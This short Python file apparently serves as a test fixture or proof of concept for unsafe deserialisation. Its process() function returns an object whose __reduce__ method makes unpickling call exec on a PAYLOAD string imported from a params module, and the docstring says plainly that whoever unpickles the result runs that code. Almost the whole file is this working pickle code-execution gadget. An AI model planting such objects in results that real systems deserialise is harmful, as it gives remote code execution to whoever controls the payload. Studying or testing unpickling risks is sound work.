"""Code in a result: whoever unpickles it runs PAYLOAD (pickle calls exec)."""

from params import PAYLOAD


class Payload:
    """Pickles as `exec(PAYLOAD)`."""

    def __reduce__(self):
        return exec, (PAYLOAD,)


def process(fragment):
    return Payload()
